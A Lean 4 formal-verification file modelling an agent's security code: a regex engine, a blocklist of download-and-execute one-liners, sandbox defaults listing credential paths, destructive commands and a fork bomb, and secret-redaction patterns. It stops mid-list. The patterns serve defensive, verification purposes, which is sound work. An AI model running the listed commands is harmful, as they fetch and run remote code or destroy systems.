import Mathlib

/-!
Verification development for the OpenClaw security core
(public-bind guard, IP allowlist engine, one-liner command blocklist,
skill sandbox policy engine, identity guard, anomaly detector,
redaction engine).

The definitions below are shallow embeddings of the TypeScript sources:
  * `src/security/public-bind-guard.ts`
  * `src/security/ip-allowlist.ts`
  * `src/security/one-liner-blocklist.ts`
  * `src/security/identity-guard.ts`
  * `src/security/skill-sandbox.ts`
  * `src/security/anomaly-detector.ts`
  * the redaction module (`redactSensitiveText` and friends)

JavaScript strings are modelled as Lean `String`/`List Char`; JS objects
as association lists; `undefined`-able values as `Option`; machine time
(`Date.now()`) as an explicit `Int` parameter threaded through the
state-manipulating functions.  Logging, console output and webhook
delivery are side effects with no influence on any return value and are
not modelled.
-/

namespace SafeClaw

/-! ## JavaScript character and string helpers -/

/-- JS regex `\s` (ECMA-262 WhiteSpace ∪ LineTerminator). -/
def isJsWs (c : Char) : Bool :=
  c == ' ' || c == '\t' || c == '\n' || c == '\r' ||
  c == '\x0b' || c == '\x0c' ||
  c.toNat == 0xA0 || c.toNat == 0x1680 ||
  (0x2000 ≤ c.toNat && c.toNat ≤ 0x200A) ||
  c.toNat == 0x2028 || c.toNat == 0x2029 || c.toNat == 0x202F ||
  c.toNat == 0x205F || c.toNat == 0x3000 || c.toNat == 0xFEFF

/-- JS regex word character `\w` = `[A-Za-z0-9_]` (used by `\b`). -/
def isWordChar (c : Char) : Bool :=
  (('a' ≤ c && c ≤ 'z') || ('A' ≤ c && c ≤ 'Z') || ('0' ≤ c && c ≤ '9') || c == '_')

/-- ASCII lowercasing of one character (JS `toLowerCase` restricted to
    the ASCII range, which is all the sources use). -/
def jsLowerChar (c : Char) : Char :=
  if 'A' ≤ c && c ≤ 'Z' then Char.ofNat (c.toNat + 32) else c

/-- Case-insensitive character comparison (regex `i` flag). -/
def lowerEq (a b : Char) : Bool :=
  jsLowerChar a == jsLowerChar b

/-- JS `String.prototype.toLowerCase` (ASCII). -/
def jsToLower (s : String) : String :=
  String.mk (s.toList.map jsLowerChar)

/-- JS `String.prototype.trim`: strip leading/trailing whitespace. -/
def jsTrim (s : String) : String :=
  String.mk (((s.toList.dropWhile isJsWs).reverse.dropWhile isJsWs).reverse)

mutual

/-- Whitespace collapsing used by the one-liner blocklist:
    `command.replace(/\s+/g, " ")` — every maximal whitespace run
    becomes a single space. -/
def collapseWs : List Char → List Char
  | [] => []
  | c :: cs => if isJsWs c then ' ' :: collapseSkipWs cs else c :: collapseWs cs

/-- Inside a whitespace run (already emitted as one space): skip the
    remaining run. -/
def collapseSkipWs : List Char → List Char
  | [] => []
  | c :: cs => if isJsWs c then collapseSkipWs cs else c :: collapseWs cs

end

/-- JS `s.startsWith(pre)`. -/
def jsStartsWith (s pre : String) : Bool :=
  pre.toList.isPrefixOf s.toList

/-- JS `s.endsWith(suf)`. -/
def jsEndsWith (s suf : String) : Bool :=
  suf.toList.reverse.isPrefixOf s.toList.reverse

/-- JS `s.includes(c)` for a single character. -/
def strContainsChar (s : String) (c : Char) : Bool :=
  s.toList.contains c

/-- Split at every occurrence of a single character
    (JS `s.split(sep)` with a one-character separator). -/
def splitOnChar (sep : Char) : List Char → List (List Char)
  | [] => [[]]
  | c :: cs =>
    if c == sep then [] :: splitOnChar sep cs
    else
      match splitOnChar sep cs with
      | [] => [[c]]
      | line :: lines => (c :: line) :: lines

/-- String version of `splitOnChar`. -/
def splitOnCharS (sep : Char) (s : String) : List String :=
  (splitOnChar sep s.toList).map String.mk

/-- JS `s.split("::")` (leftmost, non-overlapping occurrences). -/
def splitDoubleColon : List Char → List (List Char)
  | [] => [[]]
  | ':' :: ':' :: rest => [] :: splitDoubleColon rest
  | c :: cs =>
    match splitDoubleColon cs with
    | [] => [[c]]
    | line :: lines => (c :: line) :: lines

/-- String version of `splitDoubleColon`. -/
def splitDoubleColonS (s : String) : List String :=
  (splitDoubleColon s.toList).map String.mk

/-- Substring containment, JS `String.prototype.includes`. -/
def listContainsSub (sub : List Char) : List Char → Bool
  | [] => sub.isEmpty
  | c :: cs => sub.isPrefixOf (c :: cs) || listContainsSub sub cs

/-- JS `haystack.includes(needle)`. -/
def jsIncludes (haystack needle : String) : Bool :=
  listContainsSub needle.toList haystack.toList

/-- Replace the first occurrence of plain substring `from_` by `to_`
    (JS `String.prototype.replace` with a string pattern). -/
def replaceFirstSub (s from_ to_ : String) : String :=
  String.mk (go s.toList)
where
  go : List Char → List Char
    | [] => if from_.toList.isEmpty then to_.toList else []
    | c :: cs =>
      if from_.toList.isPrefixOf (c :: cs) then
        to_.toList ++ (c :: cs).drop from_.toList.length
      else
        c :: go cs

/-! ## A small backtracking regex engine

The security sources use JavaScript `RegExp` literals.  We model the
exact pattern constructs they use: character classes, case-insensitive
literals, ordered alternation, greedy `?`, greedy `*`/`{n,}`/`+` over a
character class, the lazy `+?` over a class, capture groups,
backreferences, and the word boundary `\b`.  `matchRE` returns every way
the pattern can match a prefix of the remaining input, in JavaScript
backtracking priority order, so the head of the list is the match the JS
engine selects. -/

/-- Matcher state: the character just before the current position (for
    `\b`) and the remaining input. -/
structure MState where
  prev : Option Char
  rest : List Char
deriving Repr, DecidableEq

/-- Capture environment: group index ↦ captured text, latest first. -/
abbrev Caps := List (Nat × String)

def capSet (caps : Caps) (n : Nat) (s : String) : Caps :=
  (n, s) :: caps

def capGet (caps : Caps) (n : Nat) : Option String :=
  (caps.find? (fun kv => kv.1 == n)).map (fun kv => kv.2)

/-- Consume a case-insensitive literal. -/
def consumeLitCi : List Char → MState → Option MState
  | [], st => some st
  | p :: ps, st =>
    match st.rest with
    | [] => none
    | c :: cs => if lowerEq c p then consumeLitCi ps ⟨some c, cs⟩ else none

/-- Length of the maximal prefix run satisfying `p`. -/
def runLen (p : Char → Bool) : List Char → Nat
  | [] => 0
  | c :: cs => if p c then runLen p cs + 1 else 0

/-- Consume `n` characters (assumed available). -/
def consumeN (st : MState) : Nat → MState
  | 0 => st
  | n + 1 =>
    match st.rest with
    | [] => st
    | c :: cs => consumeN ⟨some c, cs⟩ n

/-- Regex abstract syntax for the patterns appearing in the sources. -/
inductive RE where
  | cls (p : Char → Bool)
  | lit (s : String)
  | seqn (rs : List RE)
  | altn (rs : List RE)
  | opt (r : RE)
  | starCls (p : Char → Bool)
  | repCls (p : Char → Bool) (low : Nat)
  | lazyPlusCls (p : Char → Bool)
  | group (idx : Nat) (r : RE)
  | backref (idx : Nat)
  | wordB

mutual

/-- All prefix matches of `r` at the current state, JS priority order. -/
def matchRE : RE → MState → Caps → List (MState × Caps)
  | .cls p, st, caps =>
    match st.rest with
    | [] => []
    | c :: cs => if p c then [(⟨some c, cs⟩, caps)] else []
  | .lit s, st, caps =>
    match consumeLitCi s.toList st with
    | some st2 => [(st2, caps)]
    | none => []
  | .seqn rs, st, caps => matchSeq rs st caps
  | .altn rs, st, caps => matchAlt rs st caps
  | .opt r, st, caps => matchRE r st caps ++ [(st, caps)]
  | .starCls p, st, caps =>
    let k := runLen p st.rest
    (List.range (k + 1)).reverse.map (fun n => (consumeN st n, caps))
  | .repCls p low, st, caps =>
    let k := runLen p st.rest
    if k < low then []
    else (List.range (k - low + 1)).reverse.map (fun n => (consumeN st (low + n), caps))
  | .lazyPlusCls p, st, caps =>
    let k := runLen p st.rest
    (List.range k).map (fun n => (consumeN st (n + 1), caps))
  | .group idx r, st, caps =>
    (matchRE r st caps).map (fun sc =>
      (sc.1, capSet sc.2 idx (String.mk (st.rest.take (st.rest.length - sc.1.rest.length)))))
  | .backref idx, st, caps =>
    match capGet caps idx with
    | none => [(st, caps)]
    | some s =>
      match consumeLitCi s.toList st with
      | some st2 => [(st2, caps)]
      | none => []
  | .wordB, st, caps =>
    if (st.prev.any isWordChar) != (st.rest.head?.any isWordChar) then [(st, caps)] else []

/-- Sequencing: thread every result of the first element through the
    rest (backtracking order). -/
def matchSeq : List RE → MState → Caps → List (MState × Caps)
  | [], st, caps => [(st, caps)]
  | r :: rs, st, caps => (matchRE r st caps).flatMap (fun sc => matchSeq rs sc.1 sc.2)

/-- Ordered alternation. -/
def matchAlt : List RE → MState → Caps → List (MState × Caps)
  | [], _, _ => []
  | r :: rs, st, caps => matchRE r st caps ++ matchAlt rs st caps

end

/-- Scan for the leftmost match.  Returns
    `(text before the match, matched text, captures, context after)`.
    `acc` accumulates the skipped characters in reverse. -/
def firstMatchAux (re : RE) (prev : Option Char) (l : List Char) (acc : List Char) :
    Option (List Char × List Char × Caps × Option Char × List Char) :=
  match matchRE re ⟨prev, l⟩ [] with
  | (st2, caps) :: _ =>
    some (acc.reverse, l.take (l.length - st2.rest.length), caps, st2.prev, st2.rest)
  | [] =>
    match l with
    | [] => none
    | c :: cs => firstMatchAux re (some c) cs (c :: acc)

/-- JS `re.test(s)` (with the pattern anchored nowhere). -/
def reTest (re : RE) (s : String) : Bool :=
  (firstMatchAux re none s.toList []).isSome

/-- Global replacement loop, JS `s.replace(re_with_g_flag, f)`.
    `f` receives the matched text and the captures.  `fuel` bounds the
    recursion; every iteration consumes at least one input character, so
    `l.length + 1` fuel is always sufficient (see `replaceAllRE`). -/
def goRepl (re : RE) (f : String → Caps → String) :
    Nat → Option Char → List Char → List Char
  | 0, _, l => l
  | Nat.succ fuel, prev, l =>
    match firstMatchAux re prev l [] with
    | none => l
    | some (pre, matched, caps, prevAfter, rest) =>
      if matched.isEmpty then
        -- empty match: emit the replacement and advance one character
        match rest with
        | [] => pre ++ (f "" caps).toList
        | c :: rest2 => pre ++ (f "" caps).toList ++ c :: goRepl re f fuel (some c) rest2
      else
        pre ++ (f (String.mk matched) caps).toList ++ goRepl re f fuel prevAfter rest

/-- JS global `String.prototype.replace` with a callback. -/
def replaceAllRE (re : RE) (f : String → Caps → String) (s : String) : String :=
  String.mk (goRepl re f (s.toList.length + 1) none s.toList)

/-! ## One-liner command blocklist (`one-liner-blocklist.ts`)

Every pattern in `DANGEROUS_PATTERNS` carries the `i` flag; the regex
texts are transliterated into `RE` values below, one per table entry,
in declaration order. -/

/-- regex `\s+` -/
def ws1 : RE := .repCls isJsWs 1

/-- regex `\s*` -/
def ws0 : RE := .starCls isJsWs

/-- regex class `[^|]` -/
def clsNotPipe (c : Char) : Bool := !(c == '|')

/-- regex class `[^)]` -/
def clsNotParen (c : Char) : Bool := !(c == ')')

/-- regex class `[^"']` -/
def clsNotQuotes (c : Char) : Bool := !(c == '"' || c == '\'')

/-- regex class `["']` -/
def clsQuote2 (c : Char) : Bool := c == '"' || c == '\''

/-- regex class of double quote, single quote and backtick -/
def clsQuote3 (c : Char) : Bool := c == '"' || c == '\'' || c.toNat == 0x60

structure OneLinerPatternEntry where
  re : RE
  description : String

/-- `DANGEROUS_PATTERNS` from the source, in order.  The `pattern`
    (regex source text) member is not carried over; entries are
    identified by their description. -/
def dangerousPatterns : List OneLinerPatternEntry :=
  [ -- curl\s+[^|]*\|\s*(ba)?sh
    ⟨.seqn [.lit "curl", ws1, .starCls clsNotPipe, .lit "|", ws0,
            .group 1 (.opt (.lit "ba")), .lit "sh"],
     "curl piped to shell (curl | sh)"⟩,
    -- curl\s+[^|]*\|\s*zsh
    ⟨.seqn [.lit "curl", ws1, .starCls clsNotPipe, .lit "|", ws0, .lit "zsh"],
     "curl piped to zsh"⟩,
    -- wget\s+[^|]*\|\s*(ba)?sh
    ⟨.seqn [.lit "wget", ws1, .starCls clsNotPipe, .lit "|", ws0,
            .group 1 (.opt (.lit "ba")), .lit "sh"],
     "wget piped to shell (wget | sh)"⟩,
    -- wget\s+-O\s*-\s*[^|]*\|\s*(ba)?sh
    ⟨.seqn [.lit "wget", ws1, .lit "-O", ws0, .lit "-", ws0, .starCls clsNotPipe,
            .lit "|", ws0, .group 1 (.opt (.lit "ba")), .lit "sh"],
     "wget -O - piped to shell"⟩,
    -- (ba)?sh\s+<\s*\(\s*curl
    ⟨.seqn [.group 1 (.opt (.lit "ba")), .lit "sh", ws1, .lit "<", ws0, .lit "(",
            ws0, .lit "curl"],
     "bash with process substitution (bash <(curl ...))"⟩,
    -- (ba)?sh\s+<\s*\(\s*wget
    ⟨.seqn [.group 1 (.opt (.lit "ba")), .lit "sh", ws1, .lit "<", ws0, .lit "(",
            ws0, .lit "wget"],
     "bash with process substitution (bash <(wget ...))"⟩,
    -- source\s+<\s*\(\s*curl
    ⟨.seqn [.lit "source", ws1, .lit "<", ws0, .lit "(", ws0, .lit "curl"],
     "source with process substitution"⟩,
    -- eval\s+["'`]\$\(\s*curl
    ⟨.seqn [.lit "eval", ws1, .cls clsQuote3, .lit "$(", ws0, .lit "curl"],
     "eval with curl command substitution"⟩,
    -- eval\s+["'`]\$\(\s*wget
    ⟨.seqn [.lit "eval", ws1, .cls clsQuote3, .lit "$(", ws0, .lit "wget"],
     "eval with wget command substitution"⟩,
    -- iwr\s+[^|]*\|\s*iex
    ⟨.seqn [.lit "iwr", ws1, .starCls clsNotPipe, .lit "|", ws0, .lit "iex"],
     "PowerShell Invoke-WebRequest piped to Invoke-Expression"⟩,
    -- Invoke-WebRequest\s+[^|]*\|\s*Invoke-Expression
    ⟨.seqn [.lit "Invoke-WebRequest", ws1, .starCls clsNotPipe, .lit "|", ws0,
            .lit "Invoke-Expression"],
     "PowerShell Invoke-WebRequest piped to Invoke-Expression"⟩,
    -- \(New-Object\s+Net\.WebClient\)\.DownloadString[^)]*\)\s*\|\s*iex
    ⟨.seqn [.lit "(New-Object", ws1, .lit "Net.WebClient).DownloadString",
            .starCls clsNotParen, .lit ")", ws0, .lit "|", ws0, .lit "iex"],
     "PowerShell WebClient.DownloadString piped to iex"⟩,
    -- irm\s+[^|]*\|\s*iex
    ⟨.seqn [.lit "irm", ws1, .starCls clsNotPipe, .lit "|", ws0, .lit "iex"],
     "PowerShell Invoke-RestMethod piped to iex"⟩,
    -- python3?\s+-c\s+["'][^"']*urllib[^"']*exec
    ⟨.seqn [.lit "python", .opt (.lit "3"), ws1, .lit "-c", ws1, .cls clsQuote2,
            .starCls clsNotQuotes, .lit "urllib", .starCls clsNotQuotes, .lit "exec"],
     "Python one-liner with urllib and exec"⟩,
    -- python3?\s+-c\s+["'][^"']*requests[^"']*exec
    ⟨.seqn [.lit "python", .opt (.lit "3"), ws1, .lit "-c", ws1, .cls clsQuote2,
            .starCls clsNotQuotes, .lit "requests", .starCls clsNotQuotes, .lit "exec"],
     "Python one-liner with requests and exec"⟩,
    -- python3?\s+-c\s+["'][^"']*import\s+os[^"']*system
    ⟨.seqn [.lit "python", .opt (.lit "3"), ws1, .lit "-c", ws1, .cls clsQuote2,
            .starCls clsNotQuotes, .lit "import", ws1, .lit "os",
            .starCls clsNotQuotes, .lit "system"],
     "Python one-liner with os.system"⟩,
    -- node\s+-e\s+["'][^"']*require\(['"]https?['"]\)[^"']*eval
    ⟨.seqn [.lit "node", ws1, .lit "-e", ws1, .cls clsQuote2, .starCls clsNotQuotes,
            .lit "require(", .cls clsQuote2, .lit "http", .opt (.lit "s"),
            .cls clsQuote2, .lit ")", .starCls clsNotQuotes, .lit "eval"],
     "Node.js one-liner fetching and executing"⟩,
    -- ruby\s+-e\s+["'][^"']*open\(['"]https?
    ⟨.seqn [.lit "ruby", ws1, .lit "-e", ws1, .cls clsQuote2, .starCls clsNotQuotes,
            .lit "open(", .cls clsQuote2, .lit "http", .opt (.lit "s")],
     "Ruby one-liner with open-uri"⟩,
    -- perl\s+-e\s+["'][^"']*LWP::Simple[^"']*eval
    ⟨.seqn [.lit "perl", ws1, .lit "-e", ws1, .cls clsQuote2, .starCls clsNotQuotes,
            .lit "LWP::Simple", .starCls clsNotQuotes, .lit "eval"],
     "Perl one-liner with LWP and eval"⟩ ]

/-- Result of `checkOneLinerPattern`.  The source also echoes the regex
    source text in an optional `pattern` member; that member is not
    modelled (entries are identified by `description`). -/
structure OneLinerCheckResult where
  blocked : Bool
  description : Option String
deriving Repr, DecidableEq

/-- Normalization performed by `checkOneLinerPattern`:
    `command.replace(/\s+/g, " ").trim()`. -/
def normalizeCommand (command : String) : String :=
  jsTrim (String.mk (collapseWs command.toList))

/-- `checkOneLinerPattern` from `one-liner-blocklist.ts`: the first
    matching dangerous pattern blocks; no match means not blocked.
    The `!command` guard maps empty strings to `blocked = false`. -/
def checkOneLinerPattern (command : String) : OneLinerCheckResult :=
  if command == "" then ⟨false, none⟩
  else
    let normalized := normalizeCommand command
    match dangerousPatterns.find? (fun p => reTest p.re normalized) with
    | some p => ⟨true, some p.description⟩
    | none => ⟨false, none⟩

/-! ## Skill sandbox (`skill-sandbox.ts`)

TypeScript optional record members are modelled with `Option`.  The JS
object spread `{...defaults, ...supplied}` is modelled per field as
"supplied if present, default otherwise"; a key explicitly set to
`undefined` (indistinguishable from an absent key in this model) is the
only unrepresented case, and none of the sources produce it. -/

structure FilesystemPerms where
  mode : Option String
  sandboxPath : Option String
  allowedPaths : Option (List String)
  deniedPaths : Option (List String)
deriving Repr, DecidableEq

structure NetworkPerms where
  egress : Option String
  egressAllowlist : Option (List String)
  listen : Option Bool
deriving Repr, DecidableEq

structure SubprocessPerms where
  allowed : Option Bool
  allowedCommands : Option (List String)
  deniedCommands : Option (List String)
  shellAccess : Option Bool
deriving Repr, DecidableEq

structure RuntimePerms where
  maxTimeoutSeconds : Option Nat
  maxMemoryMb : Option Nat
deriving Repr, DecidableEq

structure SkillPermissions where
  filesystem : Option FilesystemPerms
  network : Option NetworkPerms
  subprocess : Option SubprocessPerms
  runtime : Option RuntimePerms
deriving Repr, DecidableEq

structure SkillSandboxPolicy where
  skillId : String
  permissions : SkillPermissions
  sandboxDir : String
deriving Repr, DecidableEq

/-- `DEFAULT_PERMISSIONS.filesystem` (the source sets
    `sandboxPath: undefined`). -/
def defaultFilesystemPerms : FilesystemPerms :=
  ⟨some "read-only", none, some [],
   some ["/etc/passwd", "/etc/shadow", "~/.ssh", "~/.gnupg", "~/.aws",
         "~/.openclaw/credentials"]⟩

/-- `DEFAULT_PERMISSIONS.network`. -/
def defaultNetworkPerms : NetworkPerms :=
  ⟨some "deny", some [], some false⟩

/-- `DEFAULT_PERMISSIONS.subprocess`. -/
def defaultSubprocessPerms : SubprocessPerms :=
  ⟨some false, some [], some ["rm", "dd", "mkfs", "fdisk", "format", "del"], some false⟩

/-- `DEFAULT_PERMISSIONS.runtime`. -/
def defaultRuntimePerms : RuntimePerms :=
  ⟨some 30, some 128⟩

/-- `HARDCODED_DENIED_COMMANDS` (cannot be overridden); checked by
    substring containment.  The fork bomb braces are written with hex
    escapes. -/
def hardcodedDeniedCommands : List String :=
  ["rm -rf /", "rm -rf /*", "dd if=/dev/zero of=/dev/sda", "mkfs",
   ":()\x7b :|:& \x7d;:", "chmod -R 777 /"]

/-- Shell executables gated by `shellAccess`. -/
def shellCommands : List String :=
  ["sh", "bash", "zsh", "fish", "cmd", "powershell", "pwsh"]

/-- Node `path.posix.basename` (no suffix argument): strip trailing
    slashes, then keep the part after the last remaining slash. -/
def pathBasename (p : String) : String :=
  let rev := p.toList.reverse.dropWhile (fun c => c == '/')
  if rev.isEmpty then (if p == "" then "" else "/")
  else String.mk ((rev.takeWhile (fun c => !(c == '/'))).reverse)

/-- Node `path.join` restricted to the shapes the sources build
    (plain relative segments appended to a base); `..`/`.` collapsing
    of full `path.join` is not exercised by those call sites. -/
def pathJoin (a b : String) : String :=
  if a == "" then b
  else if jsEndsWith a "/" then a ++ b
  else a ++ "/" ++ b

/-- Environment variables read by `createSkillSandboxPolicy`. -/
structure SandboxEnv where
  stateDir : Option String
  home : Option String
deriving Repr, DecidableEq

structure CreateSkillSandboxParams where
  skillId : String
  permissions : Option SkillPermissions
  baseDir : Option String
deriving Repr, DecidableEq

/-- The template literal `` `${process.env.HOME}/.openclaw` ``
    (an unset `HOME` interpolates as the text `undefined`). -/
def homeOpenclawDir (env : SandboxEnv) : String :=
  (match env.home with
   | some h => h
   | none => "undefined") ++ "/.openclaw"

def emptySkillPermissions : SkillPermissions := ⟨none, none, none, none⟩

/-- `createSkillSandboxPolicy`: merge supplied permissions over the
    defaults and force `filesystem.sandboxPath` to the computed
    sandbox directory. -/
def createSkillSandboxPolicy (params : CreateSkillSandboxParams) (env : SandboxEnv) :
    SkillSandboxPolicy :=
  let baseDir := params.baseDir.getD (env.stateDir.getD (homeOpenclawDir env))
  let sandboxDir := pathJoin (pathJoin baseDir "skill_sandboxes") params.skillId
  let supplied := params.permissions.getD emptySkillPermissions
  let fsIn := supplied.filesystem.getD ⟨none, none, none, none⟩
  let netIn := supplied.network.getD ⟨none, none, none⟩
  let subIn := supplied.subprocess.getD ⟨none, none, none, none⟩
  let rtIn := supplied.runtime.getD ⟨none, none⟩
  { skillId := params.skillId
    permissions :=
      { filesystem := some
          ⟨fsIn.mode <|> defaultFilesystemPerms.mode,
           some sandboxDir,
           fsIn.allowedPaths <|> defaultFilesystemPerms.allowedPaths,
           fsIn.deniedPaths <|> defaultFilesystemPerms.deniedPaths⟩
        network := some
          ⟨netIn.egress <|> defaultNetworkPerms.egress,
           netIn.egressAllowlist <|> defaultNetworkPerms.egressAllowlist,
           netIn.listen <|> defaultNetworkPerms.listen⟩
        subprocess := some
          ⟨subIn.allowed <|> defaultSubprocessPerms.allowed,
           subIn.allowedCommands <|> defaultSubprocessPerms.allowedCommands,
           subIn.deniedCommands <|> defaultSubprocessPerms.deniedCommands,
           subIn.shellAccess <|> defaultSubprocessPerms.shellAccess⟩
        runtime := some
          ⟨rtIn.maxTimeoutSeconds <|> defaultRuntimePerms.maxTimeoutSeconds,
           rtIn.maxMemoryMb <|> defaultRuntimePerms.maxMemoryMb⟩ }
    sandboxDir := sandboxDir }

structure SubprocessCheckResult where
  allowed : Bool
  reason : Option String
deriving Repr, DecidableEq

/-- `args ? `command args.join(" ")` : command`.  A present-but-empty
    argument array is truthy in JS and still appends the space. -/
def buildFullCommand (command : String) (args : Option (List String)) : String :=
  match args with
  | some as => command ++ " " ++ String.intercalate " " as
  | none => command

/-- `checkSubprocessAccess` from `skill-sandbox.ts`. -/
def checkSubprocessAccess (policy : SkillSandboxPolicy) (command : String)
    (args : Option (List String)) : SubprocessCheckResult :=
  let subPolicy := policy.permissions.subprocess.getD defaultSubprocessPerms
  let fullCommand := buildFullCommand command args
  let oneLinerCheck := checkOneLinerPattern fullCommand
  if oneLinerCheck.blocked then
    ⟨false, some ("Blocked dangerous pattern: " ++ oneLinerCheck.description.getD "undefined")⟩
  else if !(subPolicy.allowed.getD false) then
    ⟨false, some "Subprocess execution is disabled for this skill"⟩
  else
    match hardcodedDeniedCommands.find? (fun d => jsIncludes fullCommand d) with
    | some d => ⟨false, some ("Command contains hardcoded denied pattern: " ++ d)⟩
    | none =>
      let baseCommand := pathBasename command
      if shellCommands.contains baseCommand && !(subPolicy.shellAccess.getD false) then
        ⟨false, some "Shell access is not allowed for this skill"⟩
      else
        match (subPolicy.deniedCommands.getD []).find?
            (fun d => baseCommand == d || jsIncludes command d) with
        | some d => ⟨false, some ("Command is in deny list: " ++ d)⟩
        | none =>
          let allowedCommands := subPolicy.allowedCommands.getD []
          if allowedCommands.length > 0 &&
              !(allowedCommands.any (fun a => baseCommand == a || command == a)) then
            ⟨false, some "Command not in allowed list"⟩
          else ⟨true, none⟩

/-! ## Redaction engine (`redact.ts` module)

`DEFAULT_REDACT_PATTERNS` are plain strings, so `parsePattern` compiles
each with flags `"gi"`; the claims concern the resolved configuration
`mode = "tools"` with the default pattern set.  Every pattern below is
the transliteration of one `String.raw` entry, in order, together with
its number of capture groups. -/

/-- regex class `[A-Z0-9_]` with the `i` flag (= `[A-Za-z0-9_]`),
    also `\w` and the class of `github_pat_` tails. -/
def clsWordUnder (c : Char) : Bool := isWordChar c

/-- regex class `[=:]` / `[:=]` -/
def clsEqColon (c : Char) : Bool := c == '=' || c == ':'

/-- regex class `[^\s"'\\]` (ENV-style assignment values) -/
def clsEnvVal (c : Char) : Bool :=
  !(isJsWs c || c == '"' || c == '\'' || c == '\\')

/-- regex class `[^\s"']` (CLI flag values) -/
def clsCliVal (c : Char) : Bool :=
  !(isJsWs c || c == '"' || c == '\'')

/-- regex class `[^"]` -/
def clsNotDq (c : Char) : Bool := !(c == '"')

/-- regex class `[-_]` -/
def clsDashUnder (c : Char) : Bool := c == '-' || c == '_'

/-- regex class `[A-Za-z0-9._\-+=]` (bearer token characters) -/
def clsBearer (c : Char) : Bool :=
  c.isAlpha || c.isDigit || c == '.' || c == '_' || c == '-' || c == '+' || c == '='

/-- regex class `[A-Za-z0-9+/=]` (basic auth characters) -/
def clsBasic (c : Char) : Bool :=
  c.isAlpha || c.isDigit || c == '+' || c == '/' || c == '='

/-- regex class `[\s\S]` -/
def clsAnyChar (_ : Char) : Bool := true

/-- regex class `[A-Z ]` with the `i` flag -/
def clsUpperSpace (c : Char) : Bool := c.isAlpha || c == ' '

/-- regex class `[A-Za-z0-9_-]` (also `[0-9A-Za-z\-_]`) -/
def clsTokenUD (c : Char) : Bool :=
  c.isAlpha || c.isDigit || c == '_' || c == '-'

/-- regex class `[A-Za-z0-9]` -/
def clsAlnum (c : Char) : Bool := c.isAlpha || c.isDigit

/-- regex class `[A-Za-z0-9-]` -/
def clsAlnumDash (c : Char) : Bool := c.isAlpha || c.isDigit || c == '-'

/-- regex class `[baprs]` with the `i` flag -/
def clsXoxKind (c : Char) : Bool :=
  let l := jsLowerChar c
  l == 'b' || l == 'a' || l == 'p' || l == 'r' || l == 's'

/-- regex `\d` -/
def clsDigit (c : Char) : Bool := c.isDigit

/-- regex class `[A-Za-z0-9._-]` (service-role values) -/
def clsSvcVal (c : Char) : Bool :=
  c.isAlpha || c.isDigit || c == '.' || c == '_' || c == '-'

/-- regex class `["\s:=]` (service-role separators) -/
def clsSvcSep (c : Char) : Bool :=
  c == '"' || isJsWs c || c == ':' || c == '='

structure RedactPatternEntry where
  re : RE
  groups : Nat

/-- `DEFAULT_REDACT_PATTERNS`, in order. -/
def defaultRedactPatterns : List RedactPatternEntry :=
  [ -- \b[A-Z0-9_]*(?:KEY|TOKEN|SECRET|PASSWORD|PASSWD)\b\s*[=:]\s*(["']?)([^\s"'\\]+)\1
    ⟨.seqn [.wordB, .starCls clsWordUnder,
            .altn [.lit "KEY", .lit "TOKEN", .lit "SECRET", .lit "PASSWORD", .lit "PASSWD"],
            .wordB, ws0, .cls clsEqColon, ws0,
            .group 1 (.opt (.cls clsQuote2)), .group 2 (.repCls clsEnvVal 1), .backref 1], 2⟩,
    -- "(?:apiKey|token|secret|password|passwd|accessToken|refreshToken)"\s*:\s*"([^"]+)"
    ⟨.seqn [.lit "\"",
            .altn [.lit "apiKey", .lit "token", .lit "secret", .lit "password",
                   .lit "passwd", .lit "accessToken", .lit "refreshToken"],
            .lit "\"", ws0, .lit ":", ws0, .lit "\"",
            .group 1 (.repCls clsNotDq 1), .lit "\""], 1⟩,
    -- --(?:api[-_]?key|token|secret|password|passwd)\s+(["']?)([^\s"']+)\1
    ⟨.seqn [.lit "--",
            .altn [.seqn [.lit "api", .opt (.cls clsDashUnder), .lit "key"],
                   .lit "token", .lit "secret", .lit "password", .lit "passwd"],
            ws1, .group 1 (.opt (.cls clsQuote2)), .group 2 (.repCls clsCliVal 1),
            .backref 1], 2⟩,
    -- Authorization\s*[:=]\s*Bearer\s+([A-Za-z0-9._\-+=]+)
    ⟨.seqn [.lit "Authorization", ws0, .cls clsEqColon, ws0, .lit "Bearer", ws1,
            .group 1 (.repCls clsBearer 1)], 1⟩,
    -- \bBearer\s+([A-Za-z0-9._\-+=]{18,})\b
    ⟨.seqn [.wordB, .lit "Bearer", ws1, .group 1 (.repCls clsBearer 18), .wordB], 1⟩,
    -- \bBasic\s+([A-Za-z0-9+/=]{20,})\b
    ⟨.seqn [.wordB, .lit "Basic", ws1, .group 1 (.repCls clsBasic 20), .wordB], 1⟩,
    -- -----BEGIN [A-Z ]*PRIVATE KEY-----[\s\S]+?-----END [A-Z ]*PRIVATE KEY-----
    ⟨.seqn [.lit "-----BEGIN ", .starCls clsUpperSpace, .lit "PRIVATE KEY-----",
            .lazyPlusCls clsAnyChar,
            .lit "-----END ", .starCls clsUpperSpace, .lit "PRIVATE KEY-----"], 0⟩,
    -- \b(sk-[A-Za-z0-9_-]{8,})\b
    ⟨.seqn [.wordB, .group 1 (.seqn [.lit "sk-", .repCls clsTokenUD 8]), .wordB], 1⟩,
    -- \b(sk-ant-[A-Za-z0-9_-]{8,})\b
    ⟨.seqn [.wordB, .group 1 (.seqn [.lit "sk-ant-", .repCls clsTokenUD 8]), .wordB], 1⟩,
    -- \b(ghp_[A-Za-z0-9]{20,})\b
    ⟨.seqn [.wordB, .group 1 (.seqn [.lit "ghp_", .repCls clsAlnum 20]), .wordB], 1⟩,
    -- \b(github_pat_[A-Za-z0-9_]{20,})\b
    ⟨.seqn [.wordB, .group 1 (.seqn [.lit "github_pat_", .repCls clsWordUnder 20]), .wordB], 1⟩,
    -- \b(xox[baprs]-[A-Za-z0-9-]{10,})\b
    ⟨.seqn [.wordB,
            .group 1 (.seqn [.lit "xox", .cls clsXoxKind, .lit "-", .repCls clsAlnumDash 10]),
            .wordB], 1⟩,
    -- \b(xapp-[A-Za-z0-9-]{10,})\b
    ⟨.seqn [.wordB, .group 1 (.seqn [.lit "xapp-", .repCls clsAlnumDash 10]), .wordB], 1⟩,
    -- \b(gsk_[A-Za-z0-9_-]{10,})\b
    ⟨.seqn [.wordB, .group 1 (.seqn [.lit "gsk_", .repCls clsTokenUD 10]), .wordB], 1⟩,
    -- \b(AIza[0-9A-Za-z\-_]{20,})\b
    ⟨.seqn [.wordB, .group 1 (.seqn [.lit "AIza", .repCls clsTokenUD 20]), .wordB], 1⟩,
    -- \b(pplx-[A-Za-z0-9_-]{10,})\b
